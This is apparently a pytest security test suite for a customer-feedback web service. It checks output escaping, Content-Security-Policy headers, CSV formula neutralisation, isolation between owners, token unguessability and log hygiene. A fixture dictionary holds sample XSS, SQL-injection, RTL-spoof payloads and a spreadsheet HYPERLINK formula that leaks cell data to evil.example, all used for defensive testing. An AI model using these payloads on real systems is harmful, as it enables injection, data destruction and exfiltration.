"""Hostile input stays inert, owners see only their own data, and survey tokens cannot be guessed."""

from __future__ import annotations

import asyncio
import base64
import csv
import io
import logging
import os
import re
import secrets
import uuid
from typing import Any

import httpx
import pytest

from bench import harness
from feedback.collection import repository as collection_repo
from feedback.collection import retention, tokens
from feedback.demo.loader import load_demo
from feedback.service.database import Connection
from feedback.service.logs import JsonLines
from feedback.service.urls import startup_banner
from feedback.settings import Settings
from tests.conftest import MakeKey, bearer

Client = httpx.AsyncClient

EMOJI_MAX = "😀" * 2000  # the longest comment the service takes: 2,000 characters, 8 kB
# Each carries a complaint the theme extractor knows, so that it shows as a verbatim in reports.
PAYLOADS = {
    "script": "<script>alert('xss')</script> the courier was rude",
    "svg": '"><svg onload=alert(1)> delivery was two days late',
    "formula": '=HYPERLINK("http://evil.example/?leak="&A1,"click me") support never answered',
    "rtl": "invoice\u202egpj.exe I was charged twice",
    "sql": "'; DROP TABLE responses; -- the app keeps crashing",
    "emoji": EMOJI_MAX,
}
# Report pages draw inline SVG charts of their own, so the test looks for the payloads' markup.
RAW_MARKUP = ("<script", "<svg onload")
_PATHS = harness.app_paths()
pytestmark = pytest.mark.slow


def needs(*paths: str) -> pytest.MarkDecorator:
    missing = [p for p in paths if p not in _PATHS]
    return pytest.mark.skipif(bool(missing), reason=f"{', '.join(missing)} route not built yet")


def assert_csp_forbids_inline_scripts(response: httpx.Response) -> None:
    policy = response.headers.get("content-security-policy")
    assert policy, f"{response.request.url.path} has no Content-Security-Policy"
    directives = {d.split()[0]: d.split()[1:] for d in policy.split(";") if d.strip()}
    scripts = directives.get("script-src", directives.get("default-src"))
    assert scripts is not None, f"no script-src or default-src in {policy!r}"
    assert "'unsafe-inline'" not in scripts and "*" not in scripts, policy


def assert_inert_html(page: httpx.Response) -> None:
    assert_csp_forbids_inline_scripts(page)
    for raw in RAW_MARKUP:
        assert raw not in page.text, f"{page.request.url.path} shows {raw!r} unescaped"


async def _setup(client: Client, admin: dict[str, str], *, owner_name: str, tp_name: str,
                 key: str) -> dict[str, Any]:
    r = await client.post("/api/v1/journeys", json={"name": f"Journey of {key}"}, headers=admin)
    assert r.status_code == 201, r.text
    journey = r.json()
    r = await client.post("/api/v1/owners", json={"name": owner_name}, headers=admin)
    assert r.status_code == 201, r.text
    owner = r.json()
    r = await client.post("/api/v1/touchpoints", headers=admin, json={
        "key": key, "name": tp_name, "stage_id": journey["stages"][2]["id"], "channel": "web",
        "owner_id": owner["id"], "kind": "nps"})
    assert r.status_code == 201, r.text
    return {"journey": journey, "owner": owner, "touchpoint": r.json()}


async def _invite(client: Client, ingest: dict[str, str], key: str, customer: str,
                  context: dict[str, Any] | None = None) -> dict[str, Any]:
    body = {**harness.invitation_body(customer), "context": context or {}}
    r = await client.post(harness.invitation_path(key), json=body, headers=ingest)
    assert r.status_code == 201, r.text
    invitation: dict[str, Any] = r.json()
    return invitation


# ---------------------------------------------------------------------------- injection


@needs(harness.RESPONSES_PATH, "/s/{token:str}", "/reports/owners/{owner_id:int}",
       "/reports/journeys/{journey_id:int}")
async def test_hostile_text_is_stored_exactly_and_shown_inert(client: Client, admin: dict[str, str],
                                                               make_key: MakeKey, conn: Connection) -> None:
    made = await _setup(client, admin, owner_name="<script>alert('owner')</script>",
                        tp_name='"><svg onload=alert(1)> checkout', key="hostile")
    ingest = bearer(await make_key("ingest"))
    for name, text in PAYLOADS.items():
        context = {"note": text[:1000]}
        r = await client.post(harness.RESPONSES_PATH, headers=ingest, json={
            **harness.response_body("hostile", 3, text, f"api-{name}"), "context": context})
        assert r.status_code == 201, (name, r.text)
        row = await conn.fetchrow("SELECT comment, context FROM responses WHERE customer_ref = $1", f"api-{name}")
        assert row is not None and row["comment"] == text and row["context"] == context, name
    too_long = "😀" * 2600  # over 10 kB: refused with a problem, never a 500 or a silent cut
    r = await client.post(harness.RESPONSES_PATH, headers=ingest,
                          json=harness.response_body("hostile", 3, too_long, "api-too-long"))
    assert r.status_code in (400, 413, 422), r.text

    # Through the survey link: the page, the thanks page and the page shown again to edit.
    for name, text in PAYLOADS.items():
        invitation = await _invite(client, ingest, "hostile", f"link-{name}", {"note": text[:1000]})
        token = harness.token_of(invitation)
        assert token
        page = await client.get(f"/s/{token}")
        assert page.status_code == 200
        assert_inert_html(page)
        thanks = await client.post(f"/s/{token}", data={"score": "2", "comment": text})
        assert thanks.status_code == 200, thanks.text[:500]
        assert_inert_html(thanks)
        stored = await conn.fetchval("SELECT comment FROM responses WHERE customer_ref = $1", f"link-{name}")
        assert stored == text, name
        again = await client.get(f"/s/{token}")
        assert_inert_html(again)
        if name == "script":  # the page to change the answer shows the comment, escaped
            assert "&lt;script&gt;alert(" in again.text

    owner_id, journey_id = made["owner"]["id"], made["journey"]["id"]
    pages = {}
    for path in (f"/reports/owners/{owner_id}", f"/reports/journeys/{journey_id}?owner={owner_id}"):
        page = await client.get(path, headers=admin)
        assert page.status_code == 200, (path, page.text[:300])
        assert_inert_html(page)
        pages[path] = page.text
    # Shown, escaped: not merely left out.
    owner_page = pages[f"/reports/owners/{owner_id}"]
    assert "&lt;script&gt;alert(" in owner_page, "the owner's name is missing from the owner report"
    assert "&lt;svg onload=alert(1)&gt;" in owner_page or "&#34;&gt;&lt;svg onload" in owner_page, (
        "the touchpoint name / svg verbatim is missing from the owner report")

    r = await client.get("/api/v1/responses", headers={**admin, "Accept": "text/csv"},
                         params={"touchpoint": "hostile"})
    assert r.status_code == 200, r.text[:300]
    cells = [cell for row in csv.reader(io.StringIO(r.text)) for cell in row]
    assert any("HYPERLINK" in c for c in cells), "the formula answer is missing from the CSV"
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not dangerous, f"CSV cells a spreadsheet would run as formulas: {dangerous[:5]}"


async def test_every_page_forbids_inline_scripts(client: Client, admin: dict[str, str]) -> None:
    made = await _setup(client, admin, owner_name="Ops", tp_name="Checkout", key="csp")
    paths = ["/healthz", "/s/" + "A" * 43, "/w/csp",
             f"/reports/owners/{made['owner']['id']}", f"/reports/journeys/{made['journey']['id']}"]
    for path in paths:
        r = await client.get(path, headers=admin)
        assert_csp_forbids_inline_scripts(r)


# ---------------------------------------------------------------------------- isolation

_NOWHERE = {"owner_id": "987654321", "journey_id": "987654321", "key": "no-such-touchpoint",
            "invitation_id": str(uuid.uuid4()), "customer": "no-such-customer", "stage_id": "987654321",
            "response_id": str(uuid.uuid4()), "alert_id": "987654321"}


def _fill(path: str, values: dict[str, str]) -> str | None:
    def sub(m: re.Match[str]) -> str:
        return values.get(m.group(1), "\0")

    filled = re.sub(r"\{(\w+)(?::\w+)?\}", sub, path)
    return None if "\0" in filled else filled


@needs(harness.RESPONSES_PATH)
async def test_an_owner_key_gets_nothing_of_another_owner(client: Client, admin: dict[str, str],
                                                          make_key: MakeKey) -> None:
    mine = await _setup(client, admin, owner_name="Alice Ops", tp_name="Alice checkout", key="alice-tp")
    theirs = await _setup(client, admin, owner_name="Bob Secret Team", tp_name="Bob delivery",
                          key="bob-tp")
    ingest = bearer(await make_key("ingest"))
    invitation = await _invite(client, ingest, "bob-tp", "bob-customer-7")
    r = await client.post(harness.RESPONSES_PATH, headers=ingest,
                          json=harness.response_body("bob-tp", 2, "bob private comment", "bob-customer-8"))
    assert r.status_code == 201, r.text
    response_id = r.json()["id"]
    r = await client.post(f"/api/v1/owners/{theirs['owner']['id']}/alerts", headers=admin,
                          json={"url": "https://hooks.example/bob-secret-hook"})
    assert r.status_code == 201, r.text
    alert_id = str(r.json()["id"])
    alice = bearer(await make_key("owner", mine["owner"]["id"]))
    # What only Bob's data holds: not the ids the requests themselves carry, which errors may echo.
    markers = ("Bob Secret Team", "bob private comment", "Bob delivery", "bob-customer-8", "bob-secret-hook")
    bob = {"owner_id": str(theirs["owner"]["id"]), "journey_id": str(theirs["journey"]["id"]),
           "key": "bob-tp", "invitation_id": invitation["id"], "customer": "bob-customer-7",
           "stage_id": str(theirs["touchpoint"]["stage_id"]), "response_id": response_id, "alert_id": alert_id}
    # Every route the app mounts (its route table is a superset of the OpenAPI document, which
    # leaves out the pages), except the public survey and widget pages and the docs.
    operations = sorted((m, p) for m, p in harness.app_routes()
                        if m in ("GET", "POST", "PATCH", "PUT", "DELETE")
                        and not p.startswith(("/schema", "/s/", "/w/")))
    query = {"owner": bob["owner_id"], "owner_id": bob["owner_id"], "touchpoint": "bob-tp",
             "journey": bob["journey_id"], "journey_id": bob["journey_id"], "stage": bob["stage_id"],
             "customer": "bob-customer-7"}
    nowhere_query = {**query, "owner": _NOWHERE["owner_id"], "owner_id": _NOWHERE["owner_id"],
                     "touchpoint": _NOWHERE["key"], "journey": _NOWHERE["journey_id"],
                     "journey_id": _NOWHERE["journey_id"], "customer": _NOWHERE["customer"]}
    problems: list[str] = []
    tried = 0
    for method, template in operations:
        theirs_path, nowhere_path = _fill(template, bob), _fill(template, _NOWHERE)
        if theirs_path is None or nowhere_path is None:
            problems.append(f"{method} {template}: no id to try for a path parameter")
            continue
        if "{" not in template and method != "GET":
            continue  # creating things is not reading another owner's data
        answers = []
        for path, params in ((theirs_path, query), (nowhere_path, nowhere_query)):
            kwargs: dict[str, Any] = {"headers": alice, "params": params}
            if method in ("POST", "PATCH", "PUT"):
                kwargs["json"] = {}
            answers.append(await client.request(method, path, **kwargs))
        tried += 1
        got, baseline = answers
        leaked = [m for m in markers if m in got.text]
        if leaked:
            problems.append(f"{method} {theirs_path}: {got.status_code} shows {leaked}")
        if got.status_code != baseline.status_code and not (got.is_success and baseline.is_success):
            problems.append(f"{method} {template}: {got.status_code} for the other owner's id, "
                            f"{baseline.status_code} for one that does not exist")
        if "{" not in template and got.is_success and leaked:
            problems.append(f"{method} {template}?{query}: a filter on the other owner answers with data")
    assert tried >= 10
    assert not problems, "\n".join(problems)


# ---------------------------------------------------------------------------- tokens


def _tampered(token: str) -> list[str]:
    """Near misses of a real token: each character changed, cut, extended, re-padded, re-cased."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    out = [token[:i] + alphabet[(alphabet.index(c) + 1) % 64] + token[i + 1:] for i, c in enumerate(token)]
    out += [token[:-1], token + "A", token + "=", token.swapcase(), token[::-1], token[1:] + token[0],
            base64.urlsafe_b64encode(base64.urlsafe_b64decode(token + "=")).decode(), token.upper(),
            " " + token, token + "\n", token.replace("-", "+").replace("_", "/")]
    return [t for t in out if t != token]


@needs("/s/{token:str}")
async def test_no_random_or_tampered_token_is_accepted(client: Client, admin: dict[str, str],
                                                       make_key: MakeKey, conn: Connection) -> None:
    await _setup(client, admin, owner_name="Tokens", tp_name="Token touchpoint", key="tokens")
    ingest = bearer(await make_key("ingest"))
    real = []
    for i in range(20):
        token = harness.token_of(await _invite(client, ingest, "tokens", f"token-customer-{i}"))
        assert token
        real.append(token)
    candidates = [t for r in real for t in _tampered(r)]
    count = int(os.environ.get("TOUCHPULSE_TOKEN_TRIES", "100000"))
    candidates += [secrets.token_urlsafe(32) for _ in range(count - len(candidates))]
    assert len(candidates) >= count
    accepted = []
    for token in candidates:
        # The service's own lookup: shape check, then the hash against the index.
        if tokens.well_formed(token) and await collection_repo.invitation_by_token(
                conn, token_hash=tokens.digest(token)) is not None:
            accepted.append(token)
    assert not accepted
    # The real ones still work, so the lookup above was a real test.
    for token in real[:3]:
        assert await collection_repo.invitation_by_token(conn, token_hash=tokens.digest(token)) is not None


@needs("/s/{token:str}")
async def test_guessing_tokens_over_http_is_refused_and_rate_limited(client: Client, admin: dict[str, str],
                                                                     make_key: MakeKey) -> None:
    await _setup(client, admin, owner_name="Guess", tp_name="Guess touchpoint", key="guess")
    ingest = bearer(await make_key("ingest"))
    real = harness.token_of(await _invite(client, ingest, "guess", "guess-customer"))
    assert real
    near = [t for t in _tampered(real) if t.isprintable() and " " not in t and "/" not in t]
    guesses = near[:100] + [secrets.token_urlsafe(32) for _ in range(200)]
    statuses: list[int] = []
    for i, token in enumerate(guesses):
        if i % 2:
            r = await client.post(f"/s/{token}", data={"score": "10", "comment": "guess"})
        else:
            r = await client.get(f"/s/{token}")
        statuses.append(r.status_code)
    assert all(s in (404, 410, 429) for s in statuses), sorted(set(statuses))
    assert 429 in statuses, "300 wrong tokens from one client in a row were never rate-limited"
    first_limited = statuses.index(429)
    assert first_limited <= 100, f"the first 429 came only after {first_limited} wrong guesses"


async def test_the_schema_path_serves_the_document_and_no_viewer_the_policy_would_break(
        client: httpx.AsyncClient) -> None:
    # Litestar's viewer pages (Swagger, ReDoc…) load scripts from CDNs, which the CSP forbids:
    # they are not mounted; the document is, and /docs is the reference page.
    assert (await client.get("/schema/openapi.json")).json()["info"]["title"] == "Touchpulse"
    assert (await client.get("/schema/openapi.yaml")).status_code == 200
    for viewer in ("/schema/swagger", "/schema/redoc", "/schema/elements", "/schema/rapidoc"):
        assert (await client.get(viewer)).status_code == 404, viewer
    root = await client.get("/schema")
    assert root.status_code == 200 and "<script" not in root.text


# ---------------------------------------------------------------------------- logs


@needs("/s/{token:str}")
async def test_logs_name_no_survey_token_and_no_erased_customer(
        client: Client, admin: dict[str, str], make_key: MakeKey, caplog: pytest.LogCaptureFixture) -> None:
    # A token in a log opens the customer's answer to whoever reads the log; the erasure's own
    # path names the customer it erases.
    caplog.set_level(logging.INFO)
    await _setup(client, admin, owner_name="Logs", tp_name="Logged touchpoint", key="logged")
    ingest = bearer(await make_key("ingest"))
    customer = "jane.doe@example.com"
    token = harness.token_of(await _invite(client, ingest, "logged", customer))
    assert token
    assert (await client.get(f"/s/{token}?score=9")).status_code == 200
    assert (await client.head(f"/s/{token}")).status_code == 200
    assert (await client.post(f"/s/{token}", data={"score": "9"})).status_code in (200, 201)
    assert (await client.get(f"/s/{token[::-1]}")).status_code == 404
    r = await client.delete(f"/api/v1/customers/{customer}", headers=admin)
    assert r.status_code == 200 and r.json()["invitations"] == 1, r.text
    # The service's own lines: the test client logs the URLs it requests.
    lines = [JsonLines().format(record) for record in caplog.records
             if not record.name.startswith(("httpx", "httpcore"))]
    for secret in (token, token[::-1], customer):
        assert not [line for line in lines if secret in line], secret
    assert any('"GET /s/{token} 200"' in line for line in lines), lines
    assert any('"DELETE /api/v1/customers/{customer} 200"' in line for line in lines), lines



async def test_a_production_start_logs_no_share_or_survey_link(
        conn: Connection, settings: Settings, database_url: str) -> None:
    # The banner goes to stdout, the log: a share link there opens reports quoting customers
    # for 30 days, and only a new secret key revokes it. `serve` without --demo prints none.
    await load_demo(conn, settings)
    invitations = await conn.fetchval("SELECT count(*) FROM invitations")
    banner = await startup_banner(settings, database_url)
    assert "share=" not in banner and "/s/" not in banner, banner
    assert await conn.fetchval("SELECT count(*) FROM invitations") == invitations
    assert "share=" in await startup_banner(settings, database_url, demo=True)


@needs("/api/v1/invitations/{invitation_id:uuid}")
async def test_answers_that_show_customers_are_never_cached(client: Client, admin: dict[str, str],
                                                            make_key: MakeKey) -> None:
    # A CSV export or an invitation's detail kept in a browser's disk cache outlives an erasure.
    await _setup(client, admin, owner_name="Cache", tp_name="Cached touchpoint", key="cached")
    ingest = bearer(await make_key("ingest"))
    invitation = await _invite(client, ingest, "cached", "cache-customer", {"order": "A-1"})
    r = await client.post(harness.RESPONSES_PATH, headers=ingest,
                          json=harness.response_body("cached", 2, "the courier was rude", "cache-customer"))
    assert r.status_code == 201, r.text
    reads = [client.get(f"/api/v1/invitations/{invitation['id']}", headers=admin),
             client.get("/api/v1/responses", headers=admin),
             client.get("/api/v1/responses", headers={**admin, "Accept": "text/csv"}),
             client.get(f"/api/v1/responses/{r.json()['id']}", headers=admin),
             client.get("/api/v1/touchpoints/cached/report", headers=admin)]
    for read in reads:
        r = await read
        assert r.status_code == 200, (r.request.url.path, r.text)
        assert "no-store" in r.headers.get("cache-control", ""), (r.request.url.path, r.headers)

# ---------------------------------------------------------------------------- retention


@pytest.fixture
def quick_purge(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(retention, "PURGE_EVERY", 0.05)


async def test_expired_idempotency_records_are_deleted_without_any_request(
        quick_purge: None, client: Client, conn: Connection) -> None:
    # A stored answer holds the comment and the customer: "kept 48 hours" must hold even when
    # no request with an Idempotency-Key comes along to trigger a purge.
    body = b'{"customer": "crm-old", "comment": "call me on 555-0100"}'
    await conn.execute(
        "INSERT INTO idempotency_keys (api_key_id, key, request_hash, status, body, created_at) "
        "VALUES (1, 'old', '', 201, $1, now() - interval '49 hours'), (1, 'fresh', '', 201, $1, now())",
        body)
    for _ in range(100):
        if await conn.fetchval("SELECT array_agg(key) FROM idempotency_keys") == ["fresh"]:
            break
        await asyncio.sleep(0.05)
    assert await conn.fetchval("SELECT array_agg(key ORDER BY key) FROM idempotency_keys") == ["fresh"]
